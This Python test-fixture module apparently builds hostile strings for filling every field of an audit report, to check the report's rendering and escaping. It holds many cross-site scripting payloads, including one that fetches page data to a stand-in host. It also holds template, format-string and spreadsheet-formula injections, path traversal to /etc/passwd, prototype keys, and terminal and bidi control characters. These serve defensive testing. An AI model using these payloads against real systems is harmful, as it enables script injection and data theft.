"""Strings that try to run, to break out, to hide or to flood; and a record that has them in every place."""

from probes.types import Comparison, Curve, Example, Measurement, Table
from reports.record import (
    AuditRecord,
    DataInfo,
    Environment,
    GroupCount,
    ModelInfo,
    ProbeResult,
    SuiteInfo,
    Verdict,
)

# What a payload does when it runs: everything leaves the same trace.
CODE = (
    "window.owned=1",
    "alert(1)",
    "document.body.innerHTML='owned'",
    "fetch('//owned.invalid/'+document.title)",
)

# Ways to get code from text into a page; {} is the code.
WAYS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<SCRIPT\n>{}</SCRIPT\n>",
    "<script/x>{}</script>",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "</svg><script>{}</script>",
    "</desc></svg><script>{}</script>",
    "<svg><script>{}</script></svg>",
    '<img src=x onerror="{}">',
    "<img src=x onerror={}//",
    "\"><img src=x onerror='{}'>",
    '\'><img src=x onerror="{}">',
    '" onmouseover="{}',
    "' onfocus='{}' autofocus='",
    '" autofocus onfocus="{}" x="',
    "` onclick=`{}",
    '<svg onload="{}">',
    "<svg/onload={}>",
    '<body onload="{}">',
    '<details open ontoggle="{}">x</details>',
    '<video><source onerror="{}"></video>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">x</a>',
    "javascript:{}",
    '<form action="javascript:{}"><button>x</button></form>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<math href="javascript:{}">x</math>',
    '<svg><animate onbegin="{}" attributeName=x dur=1s></svg>',
    "<svg><foreignObject><script>{}</script></foreignObject></svg>",
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<base href="//owned.invalid/"><script>{}</script>',
    '<link rel=stylesheet href="//owned.invalid/{}">',
    "<style>@import '//owned.invalid/{}';</style>",
    '<input onfocus="{}" autofocus>',
    '<marquee onstart="{}">x</marquee>',
    '<xss style="animation-name:x" onanimationstart="{}">',
    "{{{{ {} }}}}",
    "{{% raw %}}{}{{% endraw %}}",
    "${{{}}}",
    "<%= {} %>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "<ﬆyle><script>{}</script>",
)

# Ways to look like something else, or to break a table.
SHAPES = (
    "",
    " ",
    "F",
    "F ",
    " F",
    "f",
    "F\n",
    "F\t",
    "\ufeffF",
    "F\u200b",
    "F\u200d",
    "\u202eF",
    "\u2066F",
    "F\u0000",
    "F\u001b[2J\u001b[31m",
    "\u001b]8;;http://owned.invalid\u0007F",
    "\u009b31mF",
    "F\r\nG",
    "F\u2028G",
    "F\u2029G",
    "\u00a0F",
    "\u3164",
    "\ud83dF",
    "e" + "\u0301" * 200,
    "א" * 40,
    "مرحبا (1)",
    "漢字" * 30,
    "👩‍👩‍👧",
    "x" * 50_000,
    "x " * 20_000,
    "-" * 300,
    "</td></tr></table>",
    "<tr><td>",
    "</dd></dl>",
    "</details>",
    "<table>",
    "</section></main></body></html>",
    "<!--",
    "[red]F[/red]",
    "[link=http://owned.invalid]F[/link]",
    "%s%n%x",
    "{0.__class__}",
    "{{7*7}}",
    "=cmd|'/c calc'!A1",
    "../../etc/passwd",
    "constructor",
    "__proto__",
)


def corpus() -> tuple[str, ...]:
    """All hostile strings, each once."""
    return tuple(dict.fromkeys([*(way.format(code) for way in WAYS for code in CODE), *SHAPES]))


def harmless(count: int) -> tuple[str, ...]:
    """As many strings that do nothing."""
    return tuple(f"name {i}" for i in range(count))


def record(words: tuple[str, ...], examples: int = 40) -> AuditRecord:
    """A record with every word as text, label, group, column, metric, key, note, error and more."""
    half = len(words) // 2

    def pick(i: int) -> str:
        return words[i % len(words)]

    def leaf(i: int, feature: str, metric: str) -> Measurement:
        note = pick(i + 3) or "note"
        return Measurement(
            metric, 0.5, 0.4, 0.6, 100, {"feature": feature, "group": words[i]}, note, successes=50
        )

    features = (pick(40) + "a", pick(41) + "b")
    groups = [
        tuple(leaf(i, f, pick(50)) for i in part)
        for f, part in zip(features, (range(half), range(half, len(words))), strict=True)
    ]
    gaps = tuple(
        Measurement(
            pick(60 + i),
            0.1,
            0.0,
            0.2,
            200,
            {"feature": f, pick(70 + i) + "k": pick(80 + i)},
            pick(90 + i),
            comparisons=(Comparison("difference", g),),
        )
        for i, (f, g) in enumerate(zip(features, groups, strict=True))
    )
    undefined = Measurement("undefined", None, None, None, 0, {}, pick(100) or "why")
    table = Table(
        pick(1) + "t", words[:8], tuple((*words[i : i + 7], 1.5) for i in range(0, 70, 7)), pick(2) + "c"
    )
    curve = Curve(pick(3) + "t", pick(4), pick(5), (0.0, 1.0), (0.0, 1.0), caption=pick(6) + "c")
    texts = tuple(
        Example(
            pick(i) + "t",
            tuple((pick(i + k), words[i + k]) for k in range(min(8, len(words) - i))),
            pick(i + 2) + "c",
        )
        for i in range(0, min(len(words), 8 * examples), 8)
    )
    results = (
        ProbeResult(
            probe=pick(11),
            version=1,
            title=pick(12) + "t",
            status="ok",
            parameters={w + "=": [w, {w + "=": w}] for w in words[:20]},
            measurements=(*groups[0], *groups[1], *gaps, undefined),
            exhibits=(table, curve, *texts),
        ),
        *(
            ProbeResult(
                probe=pick(i),
                version=1,
                title=pick(i + 1) + "t",
                status=("skipped", "failed")[i % 2],
                reason=w + "!",
            )
            for i, w in enumerate(words)
        ),
    )
    verdicts = tuple(
        Verdict(
            gate=pick(i),
            outcome=("fail", "undecided", "pass")[i % 3],
            reason=pick(i + 5),
            probe=pick(11),
            metric=gaps[i % 2].metric,
            slice=dict(gaps[i % 2].slice),
            limit=0.1,
            at_most=True,
            value=0.1,
            low=0.0,
            high=0.2,
        )
        for i in range(6)
    )
    return AuditRecord(
        tool_version=pick(7),
        command=pick(8) + "x",
        exit_code=1,
        verdicts=verdicts,
        results=results,
        model=ModelInfo(
            reference=pick(9),
            kind="transformers",
            fingerprint=pick(10) + "f",
            architecture=pick(13) + "a",
            classes=words[20:30],
            device=pick(14) + "d",
            dtype=pick(15) + "d",
        ),
        data=DataInfo(
            source=pick(16),
            fingerprint=pick(17),
            rows=10,
            labels={w + "=": i for i, w in enumerate(words[:120])},
            warnings=words,
            groups={
                f: tuple(GroupCount(group=m.slice["group"], rows=3) for m in g)
                for f, g in zip(features, groups, strict=True)
            },
        ),
        suite=SuiteInfo(
            names=words[:5],
            probes=words[5:9],
            gates=words[:100],
            alpha=0.05,
            confidence=0.95,
            positive=pick(18),
            seed=0,
        ),
        environment=Environment(
            python=pick(19), platform=pick(20), packages={w + "=": w for w in words[:60]}
        ),
        training={
            "list": list(words[30:50]),
            "rows": [{"a": w, "b": w} for w in words[50:80]],
            "deep": {"a": {"b": {"c": {"d": {"e": {"f": words[0]}}}}}},
        }
        | {w + "=": w for w in words[:100]},
    )
